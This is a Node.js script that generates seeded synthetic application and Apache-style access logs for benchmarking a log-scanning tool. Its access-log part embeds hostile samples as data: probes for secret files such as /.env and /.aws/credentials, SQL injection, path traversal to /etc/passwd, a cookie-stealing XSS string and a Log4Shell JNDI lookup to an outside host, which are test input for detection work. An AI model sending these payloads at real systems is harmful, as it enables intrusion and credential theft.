// Writes a realistic synthetic log for `logsignal scan`: the throughput benchmark's input and the
// README's report. Seeded (same file every time).
//
//   node bench/generate-log.js <out> [--lines 1000000] [--kind app|access] [--seed 42] [--step-ms 10]
//
// app: `2026-11-24T10:00:00.123Z INFO  orders: ...` lines of a web service (~90% INFO, 8% WARN, 2%
//      ERROR), with a database outage (an error burst) at 60% and a new kind of message at 80%.
// access: Apache/nginx combined-format lines from a few hundred clients, with a scanner walking
//      missing paths, a brute-force run on /login, six injection attempts and a burst of 503s.
// --step-ms: mean time between lines (app 10 ms, access 200 ms by default).
import { createWriteStream } from 'node:fs';
import { parseArgs } from 'node:util';
import { mulberry32 } from './records.js';

const START = Date.UTC(2026, 10, 24, 10, 0, 0);

/** Lines of the `app` kind, as an iterator. */
export function* appLines(n, seed = 42, stepMs = 10) {
  const rand = mulberry32(seed);
  const pick = (a) => a[Math.floor(rand() * a.length)];
  const hex = (k) => Array.from({ length: k }, () => '0123456789abcdef'[Math.floor(rand() * 16)]).join('');
  const services = ['orders', 'payments', 'cart', 'auth', 'search'];
  let t = START;
  for (let i = 0; i < n; i++) {
    t += Math.floor(rand() * 2 * stepMs);
    const iso = new Date(t).toISOString();
    const outage = i > n * 0.6 && i < n * 0.6 + Math.max(200, n / 500);
    const r = rand();
    const id = Math.floor(rand() * 100000);
    let level = 'INFO ';
    let msg;
    if (outage && r < 0.5) {
      level = 'ERROR';
      msg = `payments: db query failed: connection refused (ECONNREFUSED 10.0.5.2:5432) order=${id}`;
    } else if (r < 0.3) msg = `${pick(services)}: GET /api/${pick(services)}/${id} completed in ${Math.floor(rand() * 300)} ms request_id=${hex(16)}`;
    else if (r < 0.5) msg = `auth: user ${id} logged in from 10.0.${Math.floor(rand() * 4)}.${Math.floor(rand() * 250) + 1} session=${hex(12)}`;
    else if (r < 0.65) msg = `cart: cache hit ratio ${(rand() * 100).toFixed(1)}% for shard ${id % 16} after ${Math.floor(rand() * 50)} lookups`;
    else if (r < 0.8) msg = `orders: published event order.created id=${id} partition=${id % 8} offset=${Math.floor(rand() * 1e6)}`;
    else if (r < 0.9) msg = `scheduler: job cleanup-${id % 5} finished, removed ${Math.floor(rand() * 40)} stale sessions`;
    else if (r < 0.98) {
      level = 'WARN ';
      msg = `orders: slow query took ${Math.floor(rand() * 2000) + 500} ms (threshold 500 ms) request_id=${hex(16)}`;
    } else {
      level = 'ERROR';
      msg = `payments: gateway timeout for order ${id} after ${Math.floor(rand() * 5000)} ms, retrying`;
    }
    if (i > n * 0.8 && i < n * 0.8 + 5) msg = `payments: certificate for gateway.example.com expires in ${5 - Math.floor(i - n * 0.8)} days`;
    yield `${iso} ${level} ${msg}`;
  }
}

/** Lines of the `access` kind, as an iterator. */
export function* accessLines(n, seed = 42, stepMs = 200) {
  const rand = mulberry32(seed);
  const pick = (a) => a[Math.floor(rand() * a.length)];
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
  const stamp = (t) => {
    const d = new Date(t);
    const p = (x) => String(x).padStart(2, '0');
    return `${p(d.getUTCDate())}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} +0000`;
  };
  const agents = [
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  ];
  const pages = ['/', '/products', '/products/42', '/cart', '/checkout', '/api/search?q=blue+shoes', '/static/app.js', '/static/style.css', '/about'];
  const probes = [
    '/.env',
    '/wp-login.php',
    '/.git/config',
    '/phpmyadmin/',
    '/backup.sql',
    '/server-status',
    '/actuator/env',
    '/config.json',
    '/admin/',
    '/.aws/credentials',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/cgi-bin/test.cgi',
  ];
  const attacks = [
    "/api/search?q=shoes'%20UNION%20SELECT%20username,password%20FROM%20users--",
    '/products?id=1%20OR%201=1',
    '/download?file=../../../../etc/passwd',
    '/api/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
    '/?x=${jndi:ldap://203.0.113.9:1389/a}',
  ];
  let t = START;
  for (let i = 0; i < n; i++) {
    t += Math.floor(rand() * 2 * stepMs);
    const f = i / n;
    let ip = `198.51.100.${Math.floor(rand() * 200) + 1}`;
    let method = 'GET';
    let path = pick(pages);
    let status = rand() < 0.01 ? 404 : 200;
    let agent = pick(agents);
    if (f > 0.3 && f < 0.3 + 40 / n) {
      ip = '192.0.2.77';
      path = probes[Math.floor((f - 0.3) * n) % probes.length];
      status = 404;
      agent = 'Mozilla/5.0 zgrab/0.x';
    } else if (f > 0.5 && f < 0.5 + 30 / n) {
      ip = '203.0.113.66';
      method = 'POST';
      path = '/login';
      status = 401;
    } else if (i % Math.floor(n / 6) === Math.floor(n / 12)) {
      ip = '203.0.113.9';
      path = attacks[Math.floor(i / Math.floor(n / 6)) % attacks.length];
      status = 400;
    } else if (f > 0.7 && f < 0.7 + Math.max(50, n / 400) / n) {
      status = rand() < 0.6 ? 503 : 200;
    }
    yield `${ip} - - [${stamp(t)}] "${method} ${path} HTTP/1.1" ${status} ${Math.floor(rand() * 20000)} "-" "${agent}"`;
  }
}

if (process.argv[1] && import.meta.url.endsWith(process.argv[1].split('/').pop())) {
  const { values, positionals } = parseArgs({
    allowPositionals: true,
    options: { lines: { type: 'string', default: '1000000' }, kind: { type: 'string', default: 'app' }, seed: { type: 'string', default: '42' }, 'step-ms': { type: 'string' } },
  });
  if (positionals.length !== 1) {
    console.error('usage: node bench/generate-log.js <out> [--lines N] [--kind app|access] [--seed 42]');
    process.exit(2);
  }
  const out = createWriteStream(positionals[0]);
  const step = values['step-ms'] === undefined ? undefined : Number(values['step-ms']);
  const gen = (values.kind === 'access' ? accessLines : appLines)(Number(values.lines), Number(values.seed), step);
  let buf = [];
  for (const line of gen) {
    buf.push(line);
    if (buf.length === 10000) {
      if (!out.write(`${buf.join('\n')}\n`)) await new Promise((r) => out.once('drain', r));
      buf = [];
    }
  }
  if (buf.length) out.write(`${buf.join('\n')}\n`);
  out.end();
  await new Promise((r) => out.on('finish', r));
}
